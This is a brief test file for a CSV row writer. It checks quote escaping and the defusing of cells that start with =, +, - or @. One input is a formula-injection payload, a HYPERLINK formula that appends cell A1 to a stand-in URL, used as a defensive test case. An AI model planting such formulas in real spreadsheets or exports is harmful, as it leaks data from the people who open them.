import { expect, test } from 'vitest';
import { csvRow } from './csv.js';

test.each([
  [['a', 'b,c', 'd"e', true], 'a,"b,c","d""e",true\n'],
  [
    ['=HYPERLINK("http://x/"&A1)', '+1', '-1', '@x', 'a=b', '::1'],
    `"'=HYPERLINK(""http://x/""&A1)",'+1,'-1,'@x,a=b,::1\n`,
  ],
])('a row is one of values, and of no formulas: %j', (values, row) => {
  expect(csvRow(values)).toBe(row);
});
